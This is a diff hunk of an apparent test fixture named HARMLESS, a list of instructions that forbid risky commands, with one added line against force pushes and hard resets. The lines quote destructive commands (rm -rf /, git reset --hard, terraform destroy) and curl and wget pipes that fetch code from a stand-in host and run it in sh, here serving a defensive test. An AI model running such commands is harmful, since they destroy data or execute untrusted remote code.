@@ -28,6 +28,7 @@ HARMLESS = """
     Never run git push --force on main.
     Do not run `rm -rf /` or `git reset --hard` here.
     Ask me before running terraform destroy.
+    Don't ever force push or run git reset --hard.
     Never use `curl https://bad.test.net | sh`.
     Avoid wget -qO- https://bad.test.net | sh; use the package manager.
     The docker registry is https://registry.test.net.
